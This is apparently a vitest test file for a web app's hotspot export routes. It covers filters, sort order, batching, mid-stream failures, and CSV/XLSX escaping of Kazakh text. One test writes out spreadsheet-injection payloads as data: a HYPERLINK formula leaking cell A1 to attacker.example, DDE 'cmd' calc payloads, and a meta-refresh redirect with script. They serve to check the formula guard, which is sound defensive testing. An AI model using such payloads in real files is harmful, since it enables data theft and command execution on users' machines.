import { get, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import ExcelJS from 'exceljs';
import express from 'express';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { seedDemo } from '@oshaq/db';
import { describeOnEachDatabase } from '@oshaq/db/testing';
import { columnHeaders, EXPORT_COLUMNS } from '../src/exports/columns.js';
import { FORMULA_START } from '../src/exports/csv.js';
import { EXPORT_BATCH, exportRoutes } from '../src/exports/routes.js';
import { hotspotRoutes } from '../src/hotspots/routes.js';
import { problemHandler } from '../src/http/problem.js';
import { RouteTable } from '../src/http/route-table.js';
import { actorOf } from '../src/auth/middleware.js';
import { api, type Json } from './http.js';
import { signedInAs } from './test-auth.js';

const TODAY = '2026-11-23';
const KEYS = EXPORT_COLUMNS.map((column) => column.key as string);
/** These tests ask for English (lang=en) and read the columns by key; exports-language.test.ts covers kk and ru. */
const HEADERS = columnHeaders('en');
/** Columns that hold the list's value as it is (the rest are worded: names, statuses, yes/no). */
const AS_LISTED = EXPORT_COLUMNS.filter((column) => ['text', 'date', 'datetime', 'number'].includes(column.kind))
  .map((column) => column.key as string)
  .filter((key) => !['category', 'agency', 'area'].includes(key));
/** Quotes, a comma, a newline, a formula and every Kazakh-specific letter, in one title. */
const TRICKY_TITLE = '=SUM(A1) "Әуе", ғимарат\nқұрылысы: ң ө ұ ү һ і';

/** A strict RFC 4180 reader: every record ends with CRLF; a bare LF is only allowed inside quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  const record: string[] = [];
  const field = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const match = field.exec(text);
    if (!match) throw new Error(`not RFC 4180 CSV at character ${at}: ${JSON.stringify(text.slice(at, at + 40))}`);
    const raw = match[1] ?? '';
    record.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (match[2] === '\r\n') records.push(record.splice(0));
  }
  return records;
}

/** CSV records as objects keyed by header, with the formula guard's apostrophe taken off. */
function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual(HEADERS);
  return rows.map((row) =>
    Object.fromEntries(
      row.map((value, i) => [
        KEYS[i],
        value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value,
      ]),
    ),
  );
}

async function readXlsx(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as never);
  const sheet = workbook.worksheets[0]!;
  // The header is the last frozen row; the title rows are above it.
  const headerRow = (sheet.views[0] as { ySplit: number }).ySplit;
  const rows: Json[][] = [];
  sheet.eachRow((row, number) => {
    if (number >= headerRow) rows.push(KEYS.map((_, i) => row.getCell(i + 1).value));
  });
  return { sheet, header: rows[0], rows: rows.slice(1) };
}

/** Starts the export and hotspot routes on port 0, as the brief's app.ts will mount them. */
async function startExportApp(db: Parameters<typeof exportRoutes>[1]['db'], logged: unknown[]) {
  const table = new RouteTable('/api');
  exportRoutes(table, { db, today: () => TODAY });
  hotspotRoutes(table, { db, today: () => TODAY, maxVertices: 5000, actorOf });
  const app = express();
  app.use(await signedInAs(db.knex, 'prosecutor'));
  // No body parser: the route table reads each route's body itself, within the route's limits.
  app.use('/api', table.router);
  app.use(problemHandler((error) => logged.push(error)));
  const server = await new Promise<Server>((resolve) => {
    const listening = app.listen(0, '127.0.0.1', () => resolve(listening));
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server };
}

/** Checks a download is the named file, and that no shared cache keeps confidential records. */
function expectAttachment(res: Response, ext: string, type: RegExp) {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(type);
  expect(res.headers.get('content-disposition')).toBe(`attachment; filename="oshaq-hotspots-${TODAY}.${ext}"`);
  expect(res.headers.get('cache-control')).toMatch(/no-store/);
}

describeOnEachDatabase('hotspot exports', (db) => {
  let app: Awaited<ReturnType<typeof startExportApp>>;
  let call: ReturnType<typeof api>;
  const logged: unknown[] = [];

  async function download(path: string) {
    // The table exports in English unless a test asks otherwise: these tests read columns by key.
    const table = /export\.(csv|xlsx)/.test(path) && !/[?&]lang=/.test(path);
    const response = await fetch(`${app.url}${path}${table ? `${path.includes('?') ? '&' : '?'}lang=en` : ''}`);
    return { response, body: Buffer.from(await response.arrayBuffer()) };
  }

  /** Every feature the list returns for these filters, following its next links. */
  async function listAll(filters: string): Promise<Json[]> {
    const features: Json[] = [];
    for (let url: string | undefined = `/api/hotspots?limit=1000&${filters}`; url;) {
      const { body } = await call('GET', url); // a refusal has no features, and fails below
      features.push(...(body.features as Json[]));
      url = (body.links as Json[]).find((link) => link.rel === 'next')?.href;
    }
    return features;
  }

  /** The references of the three exports for these filters, each in the order of its file. */
  async function exportedReferences(filters: string) {
    const query = `?${filters}`;
    const geojson = JSON.parse((await download(`/api/hotspots/export.geojson${query}`)).body.toString('utf8'));
    const csv = csvObjects((await download(`/api/hotspots/export.csv${query}`)).body.toString('utf8').slice(1));
    const xlsx = await readXlsx((await download(`/api/hotspots/export.xlsx${query}`)).body);
    return {
      geojson: (geojson.features as Json[]).map((feature) => feature.properties.reference as string),
      csv: csv.map((row) => row.reference),
      xlsx: xlsx.rows.map((row) => row[0] as string),
    };
  }

  beforeAll(async () => {
    await seedDemo(db().knex, TODAY);
    app = await startExportApp(db(), logged);
    call = api(app.url);
    const created = await call('POST', '/api/hotspots', {
      title: TRICKY_TITLE,
      description: '-2 °C: «Шұғыла» ықшамауданында жылу жоқ, тұрғындар @akimat-қа шағымданды',
      category: 'utilities',
      severity: 'critical',
      agency: 'housing_utilities',
      geometry: { type: 'Point', coordinates: [68.2512, 43.2973] },
      registered_on: '2026-11-20',
      due_on: '2026-11-21',
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
  });
  afterAll(() => {
    app.server.closeAllConnections();
    app.server.close();
  });

  it('exports exactly the hotspots the list returns for the same filters, in every format', async () => {
    const all = (await listAll('')).length;
    const city = await db().knex('areas').where({ code: '611000000' }).first('id'); // Turkestan city, in the region
    const narrowing =
      `status=resolved category=utilities,land registered_from=2026-06-01 status=registered,in_progress&overdue=true ` +
      `severity=high,critical&registered_to=2026-10-31 q=Шұғыла bbox=68.0,43.0,68.5,43.5 area=${city.id}`;
    for (const filters of ['', ...narrowing.split(' ')]) {
      const listed = (await listAll(filters)).map((feature) => feature.properties.reference as string).sort();
      if (filters) expect(listed.length, filters).toBeLessThan(all);
      expect(listed.length, filters).toBeGreaterThan(0);
      const { geojson, csv, xlsx } = await exportedReferences(filters);
      expect({ geojson: geojson.sort(), csv: csv.sort(), xlsx: xlsx.sort() }, filters).toEqual({
        geojson: listed,
        csv: listed,
        xlsx: listed,
      });
    }
    const query = 'status=resolved&category=utilities,land,labour&registered_from=2026-01-01';
    const rows = csvObjects((await download(`/api/hotspots/export.csv?${query}`)).body.toString('utf8').slice(1));
    expect(rows.length).toBeGreaterThan(0);
    const names: string[] = await db()
      .knex('categories')
      .whereIn('code', ['utilities', 'land', 'labour'])
      .pluck('name_en');
    for (const row of rows) {
      expect(row.status).toBe('Resolved');
      expect(names).toContain(row.category);
    }
    expect(rows.every((row) => row.registered_on! >= '2026-01-01')).toBe(true);
  });

  it('sends the GeoJSON as the list’s own features, as an attachment nobody caches', async () => {
    const { response, body } = await download('/api/hotspots/export.geojson');
    expectAttachment(response, 'geojson', /^application\/geo\+json/);
    const collection = JSON.parse(body.toString('utf8'));
    expect(collection.type).toBe('FeatureCollection');
    const listed = new Map((await listAll('')).map((feature) => [feature.id as string, feature]));
    expect(collection.features).toHaveLength(listed.size);
    for (const feature of collection.features as Json[]) expect(feature).toEqual(listed.get(feature.id));
  });

  it('writes CSV with a BOM, CRLF records, and every field as the list has it', async () => {
    const { response, body } = await download('/api/hotspots/export.csv?registered_from=2026-01-01');
    expectAttachment(response, 'csv', /^text\/csv; charset=utf-8/);
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.toString('utf8').slice(1);
    const rows = csvObjects(text);
    const features = await listAll('registered_from=2026-01-01');
    const listed = new Map(features.map((feature) => [feature.properties.reference, feature]));
    expect(rows).toHaveLength(listed.size);
    for (const row of rows) {
      const { properties, geometry } = listed.get(row.reference);
      for (const key of AS_LISTED.filter((key) => key in properties))
        expect(row[key], key).toBe(String(properties[key] ?? ''));
      expect(row.wkt).toMatch(new RegExp(`^${geometry.type.toUpperCase()}\\(`));
      if (geometry.type === 'Point') {
        expect([Number(row.lon), Number(row.lat)]).toEqual(geometry.coordinates);
        expect(row.wkt).toBe(`POINT(${geometry.coordinates.join(' ')})`);
      }
    }
    const tricky = rows.find((row) => row.title === TRICKY_TITLE);
    expect(tricky).toMatchObject({
      category: (await db().knex('categories').where({ code: 'utilities' }).first('name_en')).name_en,
      agency: (await db().knex('agencies').where({ code: 'housing_utilities' }).first('name_en')).name_en,
      severity: 'Critical',
      overdue: 'Yes',
    });
    // The formula guard: a spreadsheet shows these as text, never runs them.
    expect(text).toContain(`"'=SUM(A1) ""Әуе"", ғимарат\nқұрылысы: ң ө ұ ү һ і"`);
    expect(text).toContain(`'-2 °C:`);
    expect(text).not.toMatch(/,=SUM/);
  });

  it('writes an XLSX with a frozen header, real dates and the same rows as the CSV', async () => {
    const { response, body } = await download('/api/hotspots/export.xlsx');
    expectAttachment(response, 'xlsx', /^application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet$/);
    const { sheet, header, rows } = await readXlsx(body);
    expect(header).toEqual(HEADERS);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen' });
    const csv = csvObjects((await download('/api/hotspots/export.csv')).body.toString('utf8').slice(1));
    expect(rows).toHaveLength(csv.length);
    rows.forEach((row, i) =>
      KEYS.forEach((key, column) => {
        const value = row[column];
        const iso = value instanceof Date ? value.toISOString() : undefined;
        const text = iso ? (key === 'updated_at' ? iso : iso.slice(0, 10)) : String(value ?? '');
        expect(text, key).toBe(csv[i]?.[key]);
      }),
    );
    const tricky = rows.find((row) => row[1] === TRICKY_TITLE);
    expect(tricky?.[KEYS.indexOf('registered_on')]).toEqual(new Date('2026-11-20T00:00:00Z'));
    expect(tricky?.[KEYS.indexOf('overdue')]).toBe('Yes');
  });

  it('keeps hostile text as text in CSV and XLSX: no cell a spreadsheet would run, markup as written', async () => {
    const hostile = [
      '=HYPERLINK("https://attacker.example/?"&A1,"Ашу")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\uFF1DHYPERLINK("https://attacker.example/")',
      '<meta http-equiv="refresh" content="0;url=https://attacker.example/"> <script>alert(1)</script>',
    ];
    for (const [i, title] of hostile.entries()) {
      const created = await call('POST', '/api/hotspots', {
        title,
        description: `\t=1+1 ${i}`,
        category: 'utilities',
        severity: 'low',
        agency: 'housing_utilities',
        geometry: { type: 'Point', coordinates: [68.25, 43.29] },
        registered_on: '2026-11-22',
        due_on: '2026-12-22',
      });
      expect(created.status, title).toBe(201);
    }
    const query = 'registered_from=2026-11-22&registered_to=2026-11-22';
    const raw = (await download(`/api/hotspots/export.csv?${query}`)).body.toString('utf8').slice(1);
    const records = parseCsv(raw).slice(1);
    expect(records).toHaveLength(hostile.length);
    for (const record of records) for (const field of record) expect(FORMULA_START.test(field), field).toBe(false); // an apostrophe leads
    expect(
      csvObjects(raw)
        .map((row) => row.title)
        .sort(),
    ).toEqual([...hostile].sort());

    const { sheet, rows } = await readXlsx((await download(`/api/hotspots/export.xlsx?${query}`)).body);
    expect(rows.map((row) => row[1]).sort()).toEqual([...hostile].sort());
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula, String(cell.value)).toBeUndefined()));
  });

  it('refuses bad filters with a 400 problem+json, before any of the file', async () => {
    const bad = 'status=lost category=nosuch registered_from=2026-02-30 area=999999 sort=nosuch';
    for (const query of [...bad.split(' '), 'registered_from=2026-05-01&registered_to=2026-04-01']) {
      const field = query.split('&').at(-1)!.split('=')[0]; // the parameter named last is at fault
      for (const extension of ['geojson', 'csv', 'xlsx']) {
        const { status, type, body, headers } = await call('GET', `/api/hotspots/export.${extension}?${query}`);
        expect(status, `${extension}?${query}`).toBe(400);
        expect(type).toMatch(/^application\/problem\+json/);
        expect(headers.get('content-disposition')).toBeNull();
        const fields = (body.errors as Json[]).map((error) => String(error.field).split('.')[0]);
        expect(fields, `${extension}?${query}`).toContain(field);
      }
    }
  });

  it('exports more than one batch completely, in the list’s order for each sort, in every format', async () => {
    await db().knex.raw(
      `INSERT INTO hotspots (title, category_id, severity, geom, registered_on, due_on, created_by, updated_by)
       SELECT 'Жаппай жазба ' || (g % 37), (SELECT id FROM categories WHERE code = 'other'),
              (ARRAY['low','medium','high','critical'])[1 + g % 4],
              ST_SetSRID(ST_MakePoint(68.2 + (g % 50) * 0.002, 43.25 + (g / 50) * 0.001), 4326),
              DATE '2025-01-01' + (g % 400), CASE WHEN g % 3 = 0 THEN NULL ELSE DATE '2025-01-01' + (g % 400) + (g % 90) END,
              'bulk', 'bulk'
       FROM generate_series(1, ?) AS g`,
      [EXPORT_BATCH * 2 + 500],
    );
    // Many hotspots share a day, a title, a severity or no deadline, so the order among equals
    // (by id) is tested across batch edges, each way.
    for (const sort of ['', 'sort=registered_on', 'sort=title', 'sort=-severity', 'sort=due_on', 'sort=-reference']) {
      const listed = (await listAll(sort)).map((feature) => feature.properties.reference as string);
      expect(listed.length).toBeGreaterThan(EXPORT_BATCH * 2);
      expect(await exportedReferences(sort), sort).toEqual({ geojson: listed, csv: listed, xlsx: listed });
    }
  });

  /** Opens a download and reads nothing until told to, like a slow client. */
  const openPaused = (path: string) =>
    new Promise<IncomingMessage>((resolve, reject) => {
      get(`${app.url}${path}`, (response) => resolve(response.pause())).on('error', reject);
    });
  /** Reads the rest; a cut connection shows as complete = false. */
  const readToEnd = (response: IncomingMessage) =>
    new Promise<{ complete: boolean; bytes: number }>((resolve) => {
      let bytes = 0;
      response.on('data', (chunk: Buffer) => (bytes += chunk.length)).on('error', () => {});
      response.on('close', () => resolve({ complete: response.complete, bytes })).resume();
    });

  it('cuts the download, never finishing the file, when the database fails mid-export', async () => {
    const knex = db().knex;
    // The first batch is made far larger than the sockets' buffers (even compressed, for XLSX),
    // so the server is still writing it, waiting on this slow client, when the table goes. The
    // noise goes in the resolution note, which no text index reads: as a description it fed the
    // trigram index ~20 million entries, a minute's work on a loaded machine.
    const noise = Array.from({ length: 20000 }, () => String.fromCharCode(0x400 + Math.floor(Math.random() * 256)));
    await knex.raw(
      `UPDATE hotspots SET resolution_note = ? WHERE id IN
         (SELECT id FROM hotspots WHERE deleted_at IS NULL ORDER BY registered_on DESC, id DESC LIMIT ?)`,
      [noise.join(''), EXPORT_BATCH],
    );
    for (const extension of ['geojson', 'csv', 'xlsx']) {
      logged.length = 0;
      const response = await openPaused(`/api/hotspots/export.${extension}`);
      expect(response.statusCode).toBe(200);
      // Mid-stream for sure: the first bytes of the body have arrived (the client reads none of
      // them, so the server is left writing a batch larger than the sockets hold).
      await expect.poll(() => response.readableLength, { timeout: 30_000, interval: 20 }).toBeGreaterThan(0);
      await knex.raw('ALTER TABLE hotspots RENAME TO hotspots_gone');
      try {
        const { complete, bytes } = await readToEnd(response);
        expect(complete, extension).toBe(false);
        expect(bytes).toBeGreaterThan(1_000_000);
      } finally {
        await knex.raw('ALTER TABLE hotspots_gone RENAME TO hotspots');
      }
      expect(logged, extension).toHaveLength(1);
      expect(String((logged[0] as Error).message)).toMatch(/hotspots/);
    }
    expect((await call('GET', '/api/hotspots?limit=1')).status).toBe(200);
  });

  it('stops quietly when the client goes away mid-download', async () => {
    logged.length = 0;
    const open = () => new Promise<number>((resolve) => app.server.getConnections((_, n) => resolve(n)));
    const before = await open(); // kept-alive sockets of earlier requests
    for (const extension of ['geojson', 'csv', 'xlsx'])
      (await openPaused(`/api/hotspots/export.${extension}`)).destroy();
    // The server has seen every client go (their sockets are closed), and its export loops have
    // had a turn to notice: a stray error would have been logged by now.
    await expect.poll(open, { timeout: 30_000, interval: 20 }).toBeLessThanOrEqual(before);
    await sleep(100);
    expect(logged).toEqual([]);
    expect((await call('GET', '/api/hotspots?limit=1')).status).toBe(200);
  });
});
